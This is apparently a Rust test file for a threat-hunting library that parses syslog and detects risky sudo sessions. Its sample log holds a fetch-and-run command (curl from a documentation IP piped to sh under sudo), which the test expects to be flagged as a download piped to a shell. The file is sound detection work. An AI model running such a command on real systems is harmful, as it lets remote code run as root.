//! Syslog through the public API: RFC 3164 / 5424 parsing, bad lines, sudo
//! commands, logon sessions and risky sudo sessions on MSTICPy's sudo data,
//! and the host record from `syslog_data.csv` + `host_hb.csv` + `az_net.csv`.
//!
//! Differences from MSTICPy (see `huntbook::transform::syslog`): sessions
//! are paired by host, service, user and pid, so on `sudo_session_test.csv`
//! the 5 sudo sessions are each closed by the first following close (63
//! cron-style closes without an open are counted, not paired); MSTICPy's
//! `risky_sudo_sessions` flags 2 sessions there (its window test uses the
//! second event of each `cmd_speed` window), huntbook flags the `/bin/bash`
//! session for the rule and every session a burst overlaps.

use huntbook::prelude::*;
use huntbook::transform::cmdline::{RiskyCommands, command_bursts};
use huntbook::transform::syslog::{
    SyslogParser, host_record, logon_sessions, risky_sudo_sessions, sudo_commands,
};

fn s(df: &DataFrame, col: &str, row: usize) -> Option<String> {
    let c = df.column(col).unwrap().as_materialized_series().clone();
    let c = match c.dtype() {
        DataType::Datetime(_, _) => c
            .datetime()
            .unwrap()
            .to_string("%Y-%m-%d %H:%M:%S%.3f")
            .unwrap()
            .into_series(),
        _ => c.cast(&DataType::String).unwrap(),
    };
    c.str().unwrap().get(row).map(str::to_string)
}

fn testdata(name: &str) -> DataFrame {
    read_csv(bundled(&format!("msticpy/testdata/{name}")).unwrap()).unwrap()
}

const LOG: &str = "<86>Jul 10 15:13:25 web01 sudo[4242]: pam_unix(sudo:session): session opened for user root by bob(uid=0)
<85>Jul 10 15:13:25 web01 sudo[4242]: bob : TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=/usr/bin/curl -s http://198.51.100.7/i.sh | sh
Jul 10 15:14:02 web01 sshd[99]: Accepted publickey for bob from 10.0.0.5 port 5555 ssh2
<165>1 2003-10-11T22:14:15.003Z mymachine.example.com evntslog - ID47 [exampleSDID@32473 iut=\"3\" eventSource=\"Application\"] An application event <script>
hello world

<86>Jul 10 15:20:00 web01 sudo[4242]: pam_unix(sudo:session): session closed for user root
";

#[test]
fn rfc3164_and_rfc5424_lines() {
    let ev = SyslogParser::new().year(2019).parse_str(LOG).unwrap();
    let df = ev.df();
    assert_eq!(ev.lines(), 6);
    assert_eq!(df.height(), 5);
    assert_eq!(ev.malformed_count(), 1);
    assert_eq!(ev.malformed()[0].line, 5);
    assert_eq!(ev.malformed()[0].text, "hello world");
    assert_eq!(
        ev.malformed()[0].reason,
        "not an RFC 3164 or RFC 5424 message"
    );
    assert_eq!(
        df.get_column_names(),
        [
            "TimeGenerated",
            "Computer",
            "HostName",
            "Facility",
            "SeverityLevel",
            "ProcessName",
            "ProcessID",
            "MsgId",
            "StructuredData",
            "SyslogMessage",
            "Protocol"
        ]
    );
    assert_eq!(
        s(df, "TimeGenerated", 0).as_deref(),
        Some("2019-07-10 15:13:25.000")
    );
    assert_eq!(s(df, "Computer", 0).as_deref(), Some("web01"));
    assert_eq!(s(df, "Facility", 0).as_deref(), Some("authpriv"));
    assert_eq!(s(df, "SeverityLevel", 0).as_deref(), Some("info"));
    assert_eq!(s(df, "SeverityLevel", 1).as_deref(), Some("notice"));
    assert_eq!(s(df, "ProcessName", 0).as_deref(), Some("sudo"));
    assert_eq!(s(df, "ProcessID", 0).as_deref(), Some("4242"));
    assert_eq!(
        s(df, "SyslogMessage", 0).as_deref(),
        Some("pam_unix(sudo:session): session opened for user root by bob(uid=0)")
    );
    assert_eq!(s(df, "Protocol", 0).as_deref(), Some("RFC3164"));
    // no PRI
    assert_eq!(s(df, "Facility", 2), None);
    assert_eq!(s(df, "ProcessName", 2).as_deref(), Some("sshd"));
    // RFC 5424
    assert_eq!(s(df, "Protocol", 3).as_deref(), Some("RFC5424"));
    assert_eq!(
        s(df, "TimeGenerated", 3).as_deref(),
        Some("2003-10-11 22:14:15.003")
    );
    assert_eq!(
        s(df, "Computer", 3).as_deref(),
        Some("mymachine.example.com")
    );
    assert_eq!(s(df, "Facility", 3).as_deref(), Some("local4"));
    assert_eq!(s(df, "ProcessName", 3).as_deref(), Some("evntslog"));
    assert_eq!(s(df, "ProcessID", 3), None);
    assert_eq!(s(df, "MsgId", 3).as_deref(), Some("ID47"));
    assert_eq!(
        s(df, "StructuredData", 3).as_deref(),
        Some(r#"{"exampleSDID@32473":{"iut":"3","eventSource":"Application"}}"#)
    );
    assert_eq!(
        s(df, "SyslogMessage", 3).as_deref(),
        Some("An application event <script>")
    );
    let html = ev.to_html();
    assert!(!html.contains("<script>") && html.contains("&lt;script&gt;"));
}

#[test]
fn bad_input() {
    let ev = SyslogParser::new()
        .max_line_bytes(80)
        .parse_str(&"x".repeat(100))
        .unwrap();
    assert_eq!(ev.malformed()[0].reason, "line longer than 80 bytes");
    let ev = SyslogParser::new().parse_str("").unwrap();
    assert_eq!((ev.df().height(), ev.malformed_count()), (0, 0));
    let err = SyslogParser::new()
        .parse_file("/nonexistent/syslog")
        .unwrap_err()
        .to_string();
    assert!(err.starts_with("reading '/nonexistent/syslog'"), "{err}");
    let df = df!("TimeGenerated" => ["2024-01-01T00:00:00Z"], "Msg" => ["x"]).unwrap();
    let err = logon_sessions(&df).unwrap_err().to_string();
    assert_eq!(
        err,
        "column 'SyslogMessage' not found in syslog events with columns [TimeGenerated, Msg]"
    );
    let df = df!("TimeGenerated" => ["2024-01-01T00:00:00Z"], "SyslogMessage" => ["x"]).unwrap();
    let err = logon_sessions(&df).unwrap_err().to_string();
    assert_eq!(
        err,
        "invalid logon events: there are no pam_unix 'session opened' messages"
    );
    let df = df!("TimeGenerated" => ["not a time"], "SyslogMessage" => ["x"]).unwrap();
    let err = logon_sessions(&df).unwrap_err().to_string();
    assert_eq!(
        err,
        "invalid time column 'TimeGenerated' row 0: cannot parse 'not a time' as a date and time"
    );
    let sessions = df!("User" => ["a"], "Start" => ["2024-01-01T00:00:00Z"], "End" => ["2024-01-01T00:01:00Z"]).unwrap();
    let err = risky_sudo_sessions(&sessions, None, None)
        .unwrap_err()
        .to_string();
    assert_eq!(
        err,
        "invalid risky sudo sessions: give at least one of risky commands or command bursts"
    );
}

#[test]
fn sudo_commands_and_sessions_from_raw_syslog() {
    let ev = SyslogParser::new().year(2019).parse_str(LOG).unwrap();
    let sudo = sudo_commands(ev.df()).unwrap();
    assert_eq!(s(&sudo, "Sudoer", 1).as_deref(), Some("bob"));
    assert_eq!(s(&sudo, "SudoTo", 1).as_deref(), Some("root"));
    assert_eq!(
        s(&sudo, "Command", 1).as_deref(),
        Some("/usr/bin/curl -s http://198.51.100.7/i.sh | sh")
    );
    assert_eq!(s(&sudo, "CommandCall", 1).as_deref(), Some("/usr/bin/curl"));
    assert_eq!(s(&sudo, "Command", 0), None);
    let sessions = logon_sessions(&sudo).unwrap();
    let df = sessions.df();
    assert_eq!(df.height(), 1);
    assert_eq!(s(df, "User", 0).as_deref(), Some("bob"));
    assert_eq!(s(df, "TargetUser", 0).as_deref(), Some("root"));
    assert_eq!(s(df, "Service", 0).as_deref(), Some("sudo"));
    assert_eq!(s(df, "ProcessID", 0).as_deref(), Some("4242"));
    assert_eq!(
        s(df, "Start", 0).as_deref(),
        Some("2019-07-10 15:13:25.000")
    );
    assert_eq!(s(df, "End", 0).as_deref(), Some("2019-07-10 15:20:00.000"));
    assert_eq!(s(df, "DurationSeconds", 0).as_deref(), Some("395.0"));
    let risky = RiskyCommands::new().detect(&sudo, "Command").unwrap();
    let out = risky_sudo_sessions(df, Some(risky.df()), None).unwrap();
    assert_eq!(out.height(), 1);
    assert_eq!(
        s(&out, "Rule", 0).as_deref(),
        Some("download_piped_to_shell")
    );
    assert_eq!(s(&out, "Reason", 0).as_deref(), Some("risky command"));
}

#[test]
fn msticpy_sudo_session_test() {
    let events = testdata("sudo_session_test.csv");
    let sessions = logon_sessions(&events).unwrap();
    let df = sessions.df();
    assert_eq!(df.height(), 5);
    assert_eq!(sessions.unmatched_closes(), 63);
    let pairs: Vec<(String, String, String)> = (0..5)
        .map(|i| {
            (
                s(df, "User", i).unwrap(),
                s(df, "Start", i).unwrap(),
                s(df, "End", i).unwrap(),
            )
        })
        .collect();
    let want = [
        (
            "peteb",
            "2019-07-15 02:44:44.000",
            "2019-07-15 02:44:57.000",
        ),
        (
            "peteb",
            "2019-07-15 02:45:53.000",
            "2019-07-15 02:46:00.000",
        ),
        (
            "peteb",
            "2019-07-15 02:47:12.000",
            "2019-07-15 02:47:12.000",
        ),
        (
            "peteb",
            "2019-07-15 02:47:26.000",
            "2019-07-15 02:47:31.000",
        ),
        (
            "peteb",
            "2019-07-15 02:47:40.000",
            "2019-07-15 02:48:00.000",
        ),
    ];
    let want: Vec<(String, String, String)> = want
        .iter()
        .map(|(a, b, c)| (a.to_string(), b.to_string(), c.to_string()))
        .collect();
    assert_eq!(pairs, want);
    let risky = RiskyCommands::new().detect(&events, "Command").unwrap();
    assert_eq!(risky.df().height(), 1);
    assert_eq!(s(risky.df(), "Command", 0).as_deref(), Some("/bin/bash"));
    assert_eq!(
        s(risky.df(), "Rule", 0).as_deref(),
        Some("interactive_root_shell")
    );
    let bursts = command_bursts(&events, "Command", "TimeGenerated", 60.0, 2).unwrap();
    assert_eq!(bursts.height(), 1);
    assert_eq!(s(&bursts, "Commands", 0).as_deref(), Some("3"));
    assert_eq!(
        s(&bursts, "BurstStart", 0).as_deref(),
        Some("2019-07-15 02:47:12.000")
    );
    assert_eq!(
        s(&bursts, "BurstEnd", 0).as_deref(),
        Some("2019-07-15 02:47:40.000")
    );
    let out = risky_sudo_sessions(df, Some(risky.df()), Some(&bursts)).unwrap();
    let got: Vec<(String, String)> = (0..out.height())
        .map(|i| {
            (
                s(&out, "SessionIndex", i).unwrap(),
                s(&out, "Reason", i).unwrap(),
            )
        })
        .collect();
    let want: Vec<(String, String)> = [
        ("4", "risky command"),
        ("2", "command burst"),
        ("3", "command burst"),
        ("4", "command burst"),
    ]
    .iter()
    .map(|(a, b)| (a.to_string(), b.to_string()))
    .collect();
    assert_eq!(got, want);
}

#[test]
fn msticpy_sudo_events_sessions() {
    // MSTICPy's test_cluster_sudo_sessions asks for at least one session.
    let sessions = logon_sessions(&testdata("sudo_events.csv")).unwrap();
    assert_eq!(sessions.df().height(), 1);
    assert_eq!(s(sessions.df(), "User", 0).as_deref(), Some("peteb"));
}

#[test]
fn host_record_from_syslog_and_heartbeat() {
    let syslog = testdata("syslog_data.csv");
    let hb = testdata("host_hb.csv");
    let az = testdata("az_net.csv");
    let rec = host_record(&syslog, Some(&hb), Some(&az)).unwrap();
    assert_eq!(rec.computer.as_deref(), Some("squid-uk-02"));
    assert_eq!(rec.os_type.as_deref(), Some("Linux"));
    assert_eq!(rec.os_name.as_deref(), Some("Ubuntu"));
    assert_eq!(rec.os_version.as_deref(), Some("18.04"));
    assert_eq!(rec.environment.as_deref(), Some("Azure"));
    assert_eq!(rec.ip_address.as_deref(), Some("51.140.160.102"));
    assert_eq!(rec.country.as_deref(), Some("United Kingdom"));
    assert_eq!(rec.longitude, Some(-0.13));
    assert_eq!(rec.latitude, Some(51.5));
    assert_eq!(
        rec.vm_uuid.as_deref(),
        Some("4acad4ff-aab2-934f-8b1f-2cadd5f23681")
    );
    assert_eq!(
        rec.solutions,
        [
            "security",
            "networkMonitoring",
            "securityCenterFree",
            "securityInsights"
        ]
    );
    assert!(
        rec.applications.is_empty(),
        "only sudo in the data: {:?}",
        rec.applications
    );
    assert_eq!(rec.host_ips, ["10.0.6.5"]);
    assert_eq!(rec.private_ips, ["10.0.6.5"]);
    assert_eq!(rec.public_ips, ["51.140.160.102"]);
    assert_eq!(rec.events, 100);
    let df = rec.to_df().unwrap();
    assert_eq!(df.height(), 19);
    assert!(rec.to_html().contains("squid-uk-02"));
    // without heartbeat: syslog facts only
    let rec = host_record(&syslog, None, None).unwrap();
    assert_eq!((rec.os_type, rec.events), (None, 100));
    let err = host_record(&syslog.head(Some(0)), None, None)
        .unwrap_err()
        .to_string();
    assert_eq!(err, "invalid syslog events: the frame is empty");
}
